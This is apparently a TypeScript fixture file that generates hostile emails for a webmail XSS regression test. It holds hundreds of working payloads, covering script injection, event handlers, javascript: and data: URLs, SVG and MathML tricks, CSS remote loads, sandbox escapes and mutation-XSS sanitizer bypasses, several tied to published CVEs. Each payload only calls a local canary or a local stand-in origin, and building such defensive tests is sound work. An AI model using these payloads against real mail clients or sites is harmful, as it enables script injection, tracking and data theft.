/**
 * Hostile mail for the page's XSS test (issue #15, test/integration/web/xss.test.ts): several hundred messages,
 * each one vector, generated from families (script, every event-handler family, dangerous URL schemes in every
 * URL attribute, SVG, MathML, CSS, `<base>`/`<meta>`, forms, frames and objects, mutation-XSS shapes,
 * malformed MIME, charsets, headers) plus the patterns of published webmail CVEs, cited per vector.
 *
 * Every vector tries to call the canary: `__xss('<id>')` (the test exposes it in every frame), `parent.__xss`,
 * `top.__xss` and `alert('<id>')`; and/or to load something from `<remote>/xss-<id>` (`remote`: a second local
 * address and port standing in for a remote origin, whose server counts every connection). The test asserts none
 * of it happens.
 *
 * Every message has `[xss:<id>]` in its Subject, so the test finds it in the inbox.
 */

export interface XssVector {
  /** Short and unique; appears in the canary calls and the remote host names. */
  id: string;
  family: string;
  /** What it tries. */
  what: string;
  /** A published CVE the shape comes from, when there is one. */
  cve?: string;
  /** The whole message, CRLF line ends. */
  raw: Buffer;
}

export interface CorpusOptions {
  /** `http://127.0.0.2:<port>`: a second local origin that stands in for a remote one. */
  remote: string;
}

const CRLF = '\r\n';

/** JavaScript that reports a run: the canary in this frame, the parent and the top, and a dialog. */
export function canaryJs(id: string): string {
  return `__xss('${id}');parent.__xss('${id}');top.__xss('${id}');alert('${id}')`;
}

/**
 * Where a vector tries to load from: `<remote>/xss-<id>`, a local server standing in for a remote origin, so
 * that every attempt that gets out is counted by that server (ground truth: a browser automation layer can miss
 * a request of a frame it has not seen attach yet).
 */
let REMOTE = 'http://127.0.0.2:9';
function remoteHost(id: string): string {
  return `${REMOTE}/xss-${id}`;
}

interface Draft {
  family: string;
  what: string;
  cve?: string;
  /** An HTML body (text/html), a plain body (text/plain), or a whole message (headers + body, no id added). */
  html?: (id: string) => string;
  text?: (id: string) => string;
  message?: (id: string, subject: string) => string;
}

function headers(id: string, extra: string[] = [], subject?: string): string {
  return [
    `From: Mallory <mallory@xss.invalid>`,
    `To: reader@example.org`,
    `Subject: ${subject ?? `[xss:${id}] hostile message`}`,
    `Date: Tue, 01 Dec 2026 10:00:00 +0000`,
    `Message-ID: <${id}@xss.invalid>`,
    `MIME-Version: 1.0`,
    ...extra,
  ].join(CRLF);
}

function build(id: string, d: Draft): Buffer {
  const subject = `[xss:${id}] ${d.family}`;
  if (d.message) return Buffer.from(d.message(id, subject).replace(/\r?\n/g, CRLF), 'utf8');
  if (d.text) {
    return Buffer.from(
      headers(id, ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit'], subject) +
        CRLF +
        CRLF +
        d.text(id).replace(/\r?\n/g, CRLF) +
        CRLF,
      'utf8',
    );
  }
  const html = (d.html ?? (() => ''))(id);
  // Quoted-printable keeps every byte of the vector intact whatever its line lengths and characters.
  return Buffer.from(
    headers(
      id,
      ['Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: quoted-printable'],
      subject,
    ) +
      CRLF +
      CRLF +
      quotedPrintable(html) +
      CRLF,
    'latin1',
  );
}

function quotedPrintable(text: string): string {
  const bytes = Buffer.from(text, 'utf8');
  let out = '';
  let line = '';
  for (const b of bytes) {
    const ch =
      (b >= 33 && b <= 126 && b !== 61) || b === 32
        ? String.fromCharCode(b)
        : `=${b.toString(16).toUpperCase().padStart(2, '0')}`;
    if (line.length + ch.length > 72) {
      out += `${line}=${CRLF}`;
      line = '';
    }
    line += ch;
  }
  // A trailing space must be encoded.
  if (line.endsWith(' ')) line = `${line.slice(0, -1)}=20`;
  return out + line;
}

function b64(s: string): string {
  return Buffer.from(s, 'utf8').toString('base64');
}

/** Encodes every character as a decimal or hex HTML entity. */
function entities(s: string, hex = false): string {
  return [...s].map((c) => (hex ? `&#x${c.charCodeAt(0).toString(16)};` : `&#${c.charCodeAt(0)};`)).join('');
}

// -------------------------------------------------------------------------------------------------- families

const EVENTS = [
  'onload', 'onerror', 'onclick', 'ondblclick', 'onauxclick', 'oncontextmenu', 'onmouseover', 'onmouseout',
  'onmouseenter', 'onmouseleave', 'onmousemove', 'onmousedown', 'onmouseup', 'onpointerenter', 'onpointerdown',
  'onpointerover', 'onpointermove', 'onwheel', 'onfocus', 'onblur', 'onfocusin', 'onfocusout', 'onkeydown',
  'onkeyup', 'onkeypress', 'oninput', 'onbeforeinput', 'onchange', 'onsubmit', 'onreset', 'oninvalid',
  'onselect', 'onselectstart', 'onselectionchange', 'oncopy', 'oncut', 'onpaste', 'ondrag', 'ondragstart',
  'ondrop', 'onscroll', 'onscrollend', 'onresize', 'onanimationstart', 'onanimationiteration',
  'onanimationend', 'onwebkitanimationstart', 'ontransitionstart', 'ontransitionend', 'ontransitionrun',
  'ontoggle', 'onbeforetoggle', 'onpageshow', 'onpagehide', 'onhashchange', 'onpopstate', 'onmessage',
  'onbeforeunload', 'onunload', 'onbeforeprint', 'onafterprint', 'onplay', 'onplaying', 'oncanplay',
  'onloadstart', 'onloadeddata', 'onprogress', 'onended', 'onvolumechange', 'onsuspend', 'onformdata',
  'onsearch', 'oncontentvisibilityautostatechange', 'onbegin', 'onend', 'onrepeat', 'onzoom',
]; // prettier-ignore

/** An element on which `event` fires by itself where possible. */
function eventCarrier(event: string, js: string): string {
  const a = `${event}="${js}"`;
  switch (event) {
    case 'onerror':
      return `<img src="x:" ${a}><video src="x:" ${a}></video><audio src="x:" ${a}></audio>`;
    case 'onload':
      return `<body ${a}><svg ${a}></svg><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" ${a}><style ${a}></style>`;
    case 'onfocus':
    case 'onfocusin':
      return `<input autofocus ${a}><a href="#" autofocus tabindex="1" ${a}>x</a>`;
    case 'onanimationstart':
    case 'onanimationiteration':
    case 'onanimationend':
    case 'onwebkitanimationstart':
      return `<style>@keyframes k{from{color:red}to{color:blue}}</style><div style="animation:k 0.01s 2" ${a}>x</div>`;
    case 'ontransitionstart':
    case 'ontransitionend':
    case 'ontransitionrun':
      return `<style>#t{transition:color .01s}#t:target{color:red}</style><div id="t" style="transition:outline 0.01s" ${a}>x</div>`;
    case 'ontoggle':
    case 'onbeforetoggle':
      return `<details open ${a}><summary>x</summary>y</details>`;
    case 'onbegin':
    case 'onend':
    case 'onrepeat':
      return `<svg><animate attributeName="x" from="0" to="1" dur="0.01s" repeatCount="2" ${a}></animate><set attributeName="x" to="1" ${a}></set></svg>`;
    case 'onpageshow':
    case 'onhashchange':
    case 'onmessage':
    case 'onresize':
    case 'onscroll':
    case 'onbeforeunload':
    case 'onunload':
    case 'onpagehide':
    case 'onpopstate':
      return `<body ${a}><div style="height:3000px;overflow:scroll" ${a}>x</div>`;
    case 'onplay':
    case 'onplaying':
    case 'oncanplay':
    case 'onloadstart':
    case 'onloadeddata':
    case 'onprogress':
    case 'onended':
    case 'onvolumechange':
    case 'onsuspend':
      return `<video autoplay muted src="data:video/mp4;base64,AAAA" ${a}></video><audio autoplay src="x:" ${a}></audio>`;
    case 'oncontentvisibilityautostatechange':
      return `<div style="content-visibility:auto" ${a}>x</div>`;
    default:
      return `<div ${a} style="position:fixed;inset:0">x</div><img src="x:" ${a}><input autofocus ${a}>`;
  }
}

const SCHEMES: Array<[string, (id: string) => string]> = [
  ['javascript', (id) => `javascript:${canaryJs(id)}`],
  ['javascript-mixed-case', (id) => `JaVaScRiPt:${canaryJs(id)}`],
  ['javascript-tab', (id) => `java\tscript:${canaryJs(id)}`],
  ['javascript-newline', (id) => `java\nscript:${canaryJs(id)}`],
  ['javascript-leading-space', (id) => ` \u0001javascript:${canaryJs(id)}`],
  ['javascript-entities', (id) => entities(`javascript:${canaryJs(id)}`)],
  ['javascript-hex-entities', (id) => entities(`javascript:${canaryJs(id)}`, true)],
  ['javascript-colon-entity', (id) => `javascript&colon;${canaryJs(id)}`],
  ['javascript-comment-newline', (id) => `javascript://%0a${canaryJs(id)}`],
  ['data-html', (id) => `data:text/html,<script>${canaryJs(id)}</script>`],
  ['data-html-base64', (id) => `data:text/html;base64,${b64(`<script>${canaryJs(id)}</script>`)}`],
  [
    'data-svg',
    (id) =>
      `data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${canaryJs(id)}"/>`)}`,
  ],
  ['vbscript', (id) => `vbscript:msgbox("${id}")`],
  ['remote', (id) => `${remoteHost(id)}/x`],
];

const URL_SLOTS: Array<[string, (url: string) => string]> = [
  ['a-href', (u) => `<a href="${u}" id="l">link</a>`],
  ['img-src', (u) => `<img src="${u}">`],
  ['form-action', (u) => `<form action="${u}"><input type="submit" value="go"></form>`],
  ['button-formaction', (u) => `<form><button formaction="${u}">go</button></form>`],
  ['input-formaction', (u) => `<form><input type="submit" formaction="${u}"></form>`],
  ['iframe-src', (u) => `<iframe src="${u}"></iframe>`],
  ['object-data', (u) => `<object data="${u}"></object>`],
  ['embed-src', (u) => `<embed src="${u}">`],
  ['svg-a-xlink', (u) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${u}"><text y="20">x</text></a></svg>`],
  ['svg-use-href', (u) => `<svg><use href="${u}#x"></use></svg>`],
  ['area-href', (u) => `<map name="m"><area href="${u}" shape="rect" coords="0,0,99,99"></map><img usemap="#m" src="x:">`],
  ['meta-refresh', (u) => `<meta http-equiv="refresh" content="0;url=${u}">`],
  ['base-href', (u) => `<base href="${u}"><a href="x">x</a><img src="y">`],
  ['math-href', (u) => `<math href="${u}"><mi>x</mi></math>`],
  ['link-href', (u) => `<link rel="stylesheet" href="${u}">`],
  ['video-poster', (u) => `<video poster="${u}"></video>`],
  ['img-srcset', (u) => `<img srcset="${u} 1x">`],
  ['table-background', (u) => `<table background="${u}"><tr><td background="${u}">x</td></tr></table>`],
]; // prettier-ignore

function drafts(remote: string): Draft[] {
  const out: Draft[] = [];
  const js = canaryJs;

  // ---- script
  const scripts: Array<[string, (id: string) => string]> = [
    ['plain', (id) => `<script>${js(id)}</script>`],
    ['src-remote', (id) => `<script src="${remoteHost(id)}/x.js"></script>`],
    ['src-local-port', (id) => `<script src="${remote}/${id}.js"></script>`],
    ['upper-case', (id) => `<SCRIPT>${js(id)}</SCRIPT>`],
    ['slash-attr', (id) => `<script/x>${js(id)}</script>`],
    ['split-tag', (id) => `<scr<script>ipt>${js(id)}</scr</script>ipt>`],
    ['module', (id) => `<script type="module">${js(id)}</script>`],
    ['in-table', (id) => `<table><tr><td><script>${js(id)}</script></td></tr></table>`],
    ['in-comment-end', (id) => `<!-- --!><script>${js(id)}</script>`],
    ['after-closing', (id) => `</script><script>${js(id)}</script>`],
    ['for-event', (id) => `<script for="window" event="onload">${js(id)}</script>`],
    ['svg-script', (id) => `<svg><script>${js(id)}</script></svg>`],
    [
      'svg-script-href',
      (id) => `<svg><script href="data:text/javascript,${encodeURIComponent(js(id))}"></script></svg>`,
    ],
    ['xhtml-ns', (id) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js(id)}</x:script>`],
    ['null-byte', (id) => `<scr\u0000ipt>${js(id)}</scr\u0000ipt>`],
    ['importmap', (id) => `<script type="importmap">{"imports":{"a":"${remoteHost(id)}/a.js"}}</script>`],
    [
      'speculationrules',
      (id) =>
        `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${remoteHost(id)}/p"]}]}</script>`,
    ],
  ];
  for (const [name, html] of scripts) out.push({ family: 'script', what: `script: ${name}`, html });

  // ---- every event-handler family
  for (const event of EVENTS) {
    out.push({
      family: 'event-handler',
      what: `${event} on an element that fires it by itself`,
      html: (id) => eventCarrier(event, js(id)),
    });
  }
  const handlerShapes: Array<[string, (id: string) => string]> = [
    ['mixed-case', (id) => `<img src="x:" OnErRoR="${js(id)}">`],
    ['slash-separators', (id) => `<img/src="x:"/onerror="${js(id)}">`],
    ['formfeed-separator', (id) => `<img src="x:"\u000conerror="${js(id)}">`],
    ['unquoted', (id) => `<img src=x: onerror=${js(id).replace(/ /g, '')}>`],
    ['backtick', (id) => `<img src=\`x:\` onerror=\`${js(id)}\`>`],
    ['entity-value', (id) => `<img src="x:" onerror="${entities(js(id))}">`],
    ['duplicate-attr', (id) => `<img src="x:" onerror="1" onerror="${js(id)}">`],
    ['in-title-attr', (id) => `<img src="x:" title="a" onerror="${js(id)}" alt="b">`],
    ['svg-onload-spaces', (id) => `<svg onload  =  "${js(id)}"></svg>`],
    ['body-onload-late', (id) => `<p>hi</p><body onload="${js(id)}">`],
    ['marquee', (id) => `<marquee onstart="${js(id)}" loop="1" width="1">x</marquee>`],
    ['object-onerror', (id) => `<object data="x:" onerror="${js(id)}"></object>`],
    ['frameset-onload', (id) => `<frameset onload="${js(id)}"></frameset>`],
    [
      'html-onmouseover',
      (id) => `<html onmouseover="${js(id)}"><p style="position:fixed;inset:0">x</p></html>`,
    ],
    [
      'popover',
      (id) =>
        `<div popover id="p" onbeforetoggle="${js(id)}">x</div><button popovertarget="p" autofocus onfocus="${js(id)}">b</button>`,
    ],
    [
      'xml-event-ns',
      (id) =>
        `<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">${js(id)}</handler></svg>`,
    ],
  ];
  for (const [name, html] of handlerShapes)
    out.push({ family: 'event-handler', what: `handler shape: ${name}`, html });

  // ---- dangerous URLs in every URL slot
  for (const [slot, tag] of URL_SLOTS) {
    for (const [scheme, url] of SCHEMES) {
      // Keep the matrix CI-sized: every scheme on links, images and frames; the main ones elsewhere.
      const core = ['a-href', 'img-src', 'iframe-src', 'form-action', 'svg-a-xlink'].includes(slot);
      if (
        !core &&
        !['javascript', 'javascript-entities', 'data-html-base64', 'remote', 'vbscript'].includes(scheme)
      )
        continue;
      out.push({ family: 'url', what: `${scheme} URL in ${slot}`, html: (id) => tag(url(id)) });
    }
  }

  // ---- SVG
  const svg: Array<[string, (id: string) => string, string?]> = [
    ['onload', (id) => `<svg onload="${js(id)}"></svg>`],
    [
      'animate-onbegin',
      (id) => `<svg><animate onbegin="${js(id)}" attributeName="x" dur="1s"></animate></svg>`,
    ],
    [
      'set-href-javascript',
      (id) =>
        `<svg><a><set attributeName="href" to="javascript:${js(id)}"></set><text y="20">click</text></a></svg>`,
    ],
    [
      'animate-href-values',
      (id) =>
        `<svg><a><animate attributeName="href" values="javascript:${js(id)}"></animate><text y="20">click</text></a></svg>`,
    ],
    [
      'animate-href-trailing-space',
      (id) =>
        `<svg><animate attributeName="href " values="javascript:${js(id)}" begin="0s"></animate><a id="x"><text y="20">x</text></a></svg>`,
      'CVE-2024-37383',
    ],
    [
      'animate-onload-attr',
      (id) => `<svg><animate attributeName="onload" values="${js(id)}"></animate></svg>`,
      'CVE-2025-68461',
    ],
    [
      'use-data-svg',
      (id) =>
        `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x:" onerror="${js(id)}"/></svg>`)}#x"></use></svg>`,
      'CVE-2023-5631',
    ],
    [
      'foreignobject-iframe',
      (id) =>
        `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${js(id)}&lt;/script&gt;"></iframe></foreignObject></svg>`,
    ],
    [
      'foreignobject-img',
      (id) => `<svg><foreignObject><img src="x:" onerror="${js(id)}"></foreignObject></svg>`,
    ],
    ['image-onerror', (id) => `<svg><image href="x:" onerror="${js(id)}"></image></svg>`],
    [
      'feimage-remote',
      (id) =>
        `<svg width="1" height="1"><filter id="t"><feImage href="${remoteHost(id)}/t.png"></feImage></filter><rect filter="url(#t)" width="1" height="1"></rect></svg>`,
      'Roundcube 1.6.13 feImage remote-image bypass',
    ],
    ['style-import', (id) => `<svg><style>@import url(${remoteHost(id)}/s.css);</style></svg>`],
    ['discard-onbegin', (id) => `<svg><discard onbegin="${js(id)}"></discard></svg>`],
    [
      'crafted-svg',
      (id) =>
        `<svg><g><a xlink:href="javascript:${js(id)}" xmlns:xlink="http://www.w3.org/1999/xlink"><rect width="100" height="100"></rect></a></g></svg>`,
      'CVE-2015-8864',
    ],
    ['cdata', (id) => `<svg><![CDATA[><img src="x:" onerror="${js(id)}">]]></svg>`, 'CVE-2020-12625'],
  ];
  for (const [name, html, cve] of svg)
    out.push({ family: 'svg', what: `SVG: ${name}`, html, ...(cve ? { cve } : {}) });

  // ---- MathML
  const math: Array<[string, (id: string) => string, string?]> = [
    [
      'maction',
      (id) =>
        `<math><maction actiontype="statusline" xlink:href="javascript:${js(id)}">click<mtext>x</mtext></maction></math>`,
    ],
    [
      'annotation-xml',
      (id) =>
        `<math><annotation-xml encoding="text/html"><img src="x:" onerror="${js(id)}"></annotation-xml></math>`,
    ],
    [
      'annotation-xml-style',
      (id) =>
        `<math><annotation-xml encoding="text/html"><style><img src="x:" onerror="${js(id)}"></style></annotation-xml></math>`,
    ],
    [
      'mtext-mglyph-style',
      (id) =>
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${js(id).replace(/ /g, '')}&gt;"></style></mglyph></table></mtext></math>`,
      'CVE-2020-26870',
    ],
    ['href', (id) => `<math href="javascript:${js(id)}"><mtext>click</mtext></math>`],
    ['mi-xlink', (id) => `<math><mi xlink:href="javascript:${js(id)}">x</mi></math>`],
    ['svg-in-math', (id) => `<math><mi><svg onload="${js(id)}"></svg></mi></math>`],
    [
      'malignmark',
      (id) =>
        `<math><mtext><table><malignmark><style><img src="x:" onerror="${js(id)}"></style></malignmark></table></mtext></math>`,
    ],
  ];
  for (const [name, html, cve] of math)
    out.push({ family: 'mathml', what: `MathML: ${name}`, html, ...(cve ? { cve } : {}) });

  // ---- CSS
  const css: Array<[string, (id: string) => string, string?]> = [
    ['import-url', (id) => `<style>@import url(${remoteHost(id)}/a.css);</style>`, 'CVE-2025-66376'],
    ['import-string', (id) => `<style>@import "${remoteHost(id)}/a.css";</style>`],
    ['import-media', (id) => `<style>@import '${remote}/${id}.css' screen;</style>`],
    ['import-escaped', (id) => `<style>@\\69mport url(${remoteHost(id)}/a.css);</style>`],
    ['import-in-media', (id) => `<style>@media all { @import url(${remoteHost(id)}/a.css); }</style>`],
    ['background-url', (id) => `<div style="background:url(${remoteHost(id)}/b.png)">x</div>`],
    [
      'background-image-quoted',
      (id) => `<div style="background-image:url('${remote}/${id}.png');width:10px;height:10px">x</div>`,
    ],
    [
      'protocol-relative',
      (id) =>
        `<div style="background-image:url(${REMOTE.replace('http:', '')}/xss-${id}/b.png);width:9px;height:9px">x</div>`,
    ],
    ['list-style-image', (id) => `<ul style="list-style-image:url(${remoteHost(id)}/l.png)"><li>x</li></ul>`],
    ['cursor', (id) => `<div style="cursor:url(${remoteHost(id)}/c.cur),auto">x</div>`],
    ['content', (id) => `<style>p::before{content:url(${remoteHost(id)}/c.png)}</style><p>x</p>`],
    [
      'border-image',
      (id) => `<div style="border:5px solid;border-image:url(${remoteHost(id)}/b.png) 30">x</div>`,
    ],
    [
      'mask-image',
      (id) =>
        `<div style="-webkit-mask-image:url(${remoteHost(id)}/m.png);mask-image:url(${remoteHost(id)}/m.png)">x</div>`,
    ],
    [
      'image-set',
      (id) =>
        `<div style="background-image:image-set('${remoteHost(id)}/i.png' 1x);width:9px;height:9px">x</div>`,
    ],
    [
      'webkit-image-set',
      (id) =>
        `<div style="background-image:-webkit-image-set(url(${remoteHost(id)}/i.png) 1x);width:9px;height:9px">x</div>`,
    ],
    [
      'font-face',
      (id) =>
        `<style>@font-face{font-family:f;src:url(${remoteHost(id)}/f.woff)}p{font-family:f}</style><p>x</p>`,
    ],
    ['expression', (id) => `<div style="width:expression(${js(id)})">x</div>`],
    ['behavior', (id) => `<div style="behavior:url(${remoteHost(id)}/x.htc)">x</div>`],
    ['moz-binding', (id) => `<div style="-moz-binding:url(${remoteHost(id)}/x.xml#x)">x</div>`],
    [
      'escaped-url',
      (id) => `<div style="background:u\\72l(${remoteHost(id)}/e.png);width:9px;height:9px">x</div>`,
    ],
    [
      'comment-split',
      (id) =>
        `<style>div{background:url/**/(${remoteHost(id)}/c.png)}</style><div style="width:9px;height:9px">x</div>`,
      'CVE-2006-0195',
    ],
    [
      'newline-in-url',
      (id) => `<div style="background:url(\n${remoteHost(id)}/n.png\n);width:9px;height:9px">x</div>`,
      'CVE-2006-0195',
    ],
    [
      'style-element-breakout',
      (id) => `<style>p{color:red}</style><style>a{}</style ><img src="x:" onerror="${js(id)}">`,
      'CVE-2011-2023',
    ],
    [
      'attribute-exfil',
      (id) => `<style>input[value^="a"]{background:url(${remoteHost(id)}/a)}</style><input value="abc">`,
    ],
    ['link-stylesheet', (id) => `<link rel="stylesheet" href="${remoteHost(id)}/s.css">`, 'CVE-2026-48843'],
    ['link-import', (id) => `<link rel="import" href="${remoteHost(id)}/i.html">`],
    [
      'link-preload',
      (id) =>
        `<link rel="preload" as="image" href="${remoteHost(id)}/p.png"><link rel="prefetch" href="${remoteHost(id)}/f">`,
    ],
    [
      'link-dns-prefetch',
      (id) =>
        `<link rel="dns-prefetch" href="${remoteHost(id)}"><link rel="preconnect" href="${remoteHost(id)}">`,
    ],
    [
      'remote-css-filter',
      (id) => `<div style="filter:url(${remoteHost(id)}/f.svg#f)">x</div>`,
      'CVE-2024-42010',
    ],
    [
      'supports-wrapper',
      (id) =>
        `<style>@supports (display:block){div{background:url("${remoteHost(id)}/s.png")}}</style><div style="width:9px;height:9px">x</div>`,
    ],
  ];
  for (const [name, html, cve] of css)
    out.push({ family: 'css', what: `CSS: ${name}`, html, ...(cve ? { cve } : {}) });

  // ---- base / meta
  const meta: Array<[string, (id: string) => string]> = [
    ['base-remote', (id) => `<base href="${remoteHost(id)}/"><img src="relative.png"><a href="rel">x</a>`],
    ['base-target-top', (id) => `<base target="_top"><a href="${remoteHost(id)}/" id="x">x</a>`],
    ['meta-refresh-javascript', (id) => `<meta http-equiv="refresh" content="0;url=javascript:${js(id)}">`],
    ['meta-refresh-remote', (id) => `<meta http-equiv="refresh" content="0; url=${remoteHost(id)}/r">`],
    [
      'meta-refresh-data',
      (id) =>
        `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${js(id)}</script>`)}">`,
    ],
    [
      'meta-csp-loosen',
      (id) =>
        `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><img src="${remoteHost(id)}/m.png"><script>${js(id)}</script>`,
    ],
    [
      'meta-set-cookie',
      (id) => `<meta http-equiv="Set-Cookie" content="x=${id}"><img src="${remoteHost(id)}/c.png">`,
    ],
    ['meta-charset-utf7', (id) => `<meta charset="utf-7">+ADw-script+AD4-${js(id)}+ADw-/script+AD4-`],
  ];
  for (const [name, html] of meta) out.push({ family: 'base-meta', what: name, html });

  // ---- forms
  const forms: Array<[string, (id: string) => string]> = [
    [
      'action-javascript-autofocus',
      (id) => `<form action="javascript:${js(id)}"><input type="submit" autofocus></form>`,
    ],
    [
      'formaction-button',
      (id) => `<form><button formaction="javascript:${js(id)}" autofocus>go</button></form>`,
    ],
    [
      'form-attribute',
      (id) => `<form id="f"></form><button form="f" formaction="javascript:${js(id)}">go</button>`,
    ],
    ['isindex', (id) => `<isindex action="javascript:${js(id)}" type="image">`],
    ['input-image', (id) => `<input type="image" src="${remoteHost(id)}/i.png">`],
    [
      'nested-forms',
      (id) => `<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="${js(id)}">`,
    ],
    [
      'form-remote-target-top',
      (id) =>
        `<form action="${remoteHost(id)}/f" target="_top" method="post"><input name="a" value="b"><input type="submit" autofocus></form>`,
    ],
    [
      'clobber-form',
      (id) => `<form name="__xss"><input name="${id}"></form><img name="body"><a id="__xss" href="x">x</a>`,
    ],
  ];
  for (const [name, html] of forms) out.push({ family: 'form', what: name, html });

  // ---- frames, objects
  const frames: Array<[string, (id: string) => string]> = [
    ['iframe-srcdoc', (id) => `<iframe srcdoc="&lt;script&gt;${js(id)}&lt;/script&gt;"></iframe>`],
    [
      'iframe-srcdoc-img',
      (id) => `<iframe srcdoc="&lt;img src=x: onerror=&quot;${js(id)}&quot;&gt;"></iframe>`,
    ],
    ['iframe-remote', (id) => `<iframe src="${remoteHost(id)}/f"></iframe>`],
    ['iframe-local-port', (id) => `<iframe src="${remote}/${id}"></iframe>`],
    ['frameset-frame', (id) => `<frameset><frame src="javascript:${js(id)}"></frameset>`],
    [
      'object-html',
      (id) =>
        `<object type="text/html" data="data:text/html;base64,${b64(`<script>${js(id)}</script>`)}"></object>`,
    ],
    ['object-scriptlet', (id) => `<object type="text/x-scriptlet" data="${remoteHost(id)}/s"></object>`],
    [
      'embed-svg',
      (id) =>
        `<embed type="image/svg+xml" src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(id)}"/>`)}">`,
    ],
    ['applet', (id) => `<applet code="X" codebase="${remoteHost(id)}/"></applet>`],
    ['portal', (id) => `<portal src="${remoteHost(id)}/p"></portal>`],
    ['fencedframe', (id) => `<fencedframe src="${remoteHost(id)}/p"></fencedframe>`],
    [
      'iframe-sandbox-escape',
      (id) =>
        `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="&lt;script&gt;${js(id)};top.location='${remoteHost(id)}'&lt;/script&gt;"></iframe>`,
    ],
  ];
  for (const [name, html] of frames) out.push({ family: 'frame-object', what: name, html });

  // ---- mutation XSS and parser differentials (DOMPurify's known bypass families, SquirrelMail's RCDATA one)
  const mxss: Array<[string, (id: string) => string, string?]> = [
    [
      'svg-p-style',
      (id) => `<svg></p><style><a id="</style><img src=x: onerror=${js(id).replace(/ /g, '')}>">`,
      'CVE-2019-16728',
    ],
    [
      'noscript-title',
      (id) => `<noscript><p title="</noscript><img src=x: onerror=${js(id).replace(/ /g, '')}>"></noscript>`,
      'CVE-2019-12970',
    ],
    [
      'noembed-title',
      (id) => `<noembed><img title="</noembed><img src=x: onerror=${js(id).replace(/ /g, '')}>"></noembed>`,
      'CVE-2019-12970',
    ],
    [
      'noframes-title',
      (id) =>
        `<noframes><img title="</noframes><img src=x: onerror=${js(id).replace(/ /g, '')}>"></noframes>`,
      'CVE-2019-12970',
    ],
    [
      'textarea-title',
      (id) =>
        `<textarea><img title="</textarea><img src=x: onerror=${js(id).replace(/ /g, '')}>"></textarea>`,
      'CVE-2019-12970',
    ],
    ['xmp', (id) => `<xmp><img title="</xmp><img src=x: onerror=${js(id).replace(/ /g, '')}>"></xmp>`],
    [
      'title',
      (id) => `<title><img title="</title><img src=x: onerror=${js(id).replace(/ /g, '')}>"></title>`,
    ],
    [
      'iframe-rawtext',
      (id) => `<iframe><img title="</iframe><img src=x: onerror=${js(id).replace(/ /g, '')}>"></iframe>`,
    ],
    ['plaintext', (id) => `<plaintext><img src=x: onerror=${js(id).replace(/ /g, '')}>`],
    [
      'template-script',
      (id) => `<template><script>${js(id)}</script><img src="x:" onerror="${js(id)}"></template>`,
    ],
    [
      'template-in-select',
      (id) =>
        `<select><template><style><!--</style><a rel="--></style></template></select><img src=x: onerror=${js(id).replace(/ /g, '')}>">`,
    ],
    ['style-in-svg', (id) => `<svg><style><img src="x:" onerror="${js(id)}"></style></svg>`],
    ['style-in-math', (id) => `<math><style><img src="x:" onerror="${js(id)}"></style></math>`],
    ['svg-p-namespace', (id) => `<svg><p><style><img src="x:" onerror="${js(id)}"></style></p></svg>`],
    ['comment-bang', (id) => `<!--!><img src="x:" onerror="${js(id)}">-->`],
    ['comment-short', (id) => `<!--><img src="x:" onerror="${js(id)}">-->`],
    ['processing-instruction', (id) => `<?xml ><img src="x:" onerror="${js(id)}">?>`],
    [
      'doctype',
      (id) => `<!DOCTYPE x [<!ENTITY a "<img src=x: onerror=${js(id).replace(/ /g, '')}>">]><p>&a;</p>`,
    ],
    [
      'attr-markup',
      (id) => `<a title="</a><img src=x: onerror=${js(id).replace(/ /g, '')}>">x</a>`,
      'CVE-2021-35208',
    ],
    [
      'deep-nesting',
      (id) => `${'<div>'.repeat(520)}<img src="x:" onerror="${js(id)}">${'</div>'.repeat(520)}`,
      'CVE-2024-45801',
    ],
    [
      'nesting-form-table',
      (id) =>
        `${'<form><table>'.repeat(60)}<svg><style><img src=x: onerror=${js(id).replace(/ /g, '')}></style></svg>`,
      'CVE-2024-47875',
    ],
    [
      'template-literal',
      (id) => `<p>{{constructor.constructor('${js(id)}')()}}</p><p>\${${js(id)}}</p>`,
      'CVE-2025-26791',
    ],
    [
      'foreignobject-table',
      (id) => `<table><td><svg><foreignObject><script>${js(id)}</script></foreignObject></svg></td></table>`,
    ],
    [
      'math-mtext-form',
      (id) =>
        `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x: onerror=${js(id).replace(/ /g, '')}>">`,
    ],
    [
      'is-attribute',
      (id) => `<p is="x-a" onclick="${js(id)}">x</p><x-a onfocus="${js(id)}" autofocus tabindex="1">y</x-a>`,
    ],
    [
      'slot-shadowroot',
      (id) => `<div><template shadowrootmode="open"><img src="x:" onerror="${js(id)}"></template></div>`,
    ],
    ['null-in-attr-name', (id) => `<img src="x:" o\u0000nerror="${js(id)}">`],
    [
      'utf16-nulls',
      (id) => `<\u0000s\u0000c\u0000r\u0000i\u0000p\u0000t\u0000>${js(id)}</script>`,
      'CVE-2005-4080',
    ],
  ];
  for (const [name, html, cve] of mxss)
    out.push({ family: 'mxss', what: `mutation/parser: ${name}`, html, ...(cve ? { cve } : {}) });

  // ---- remote loads that are not script (tracking): all blocked until the reader asks
  const remoteLoads: Array<[string, (id: string) => string]> = [
    ['img', (id) => `<img src="${remoteHost(id)}/pixel.gif" width="1" height="1">`],
    ['img-https', (id) => `<img src="${REMOTE.replace('http:', 'https:')}/xss-${id}/pixel.gif">`],
    ['img-protocol-relative', (id) => `<img src="${REMOTE.replace('http:', '')}/xss-${id}/pixel.gif">`],
    ['img-local-port', (id) => `<img src="${remote}/${id}.gif">`],
    ['picture-source', (id) => `<picture><source srcset="${remoteHost(id)}/s.png"><img src="x:"></picture>`],
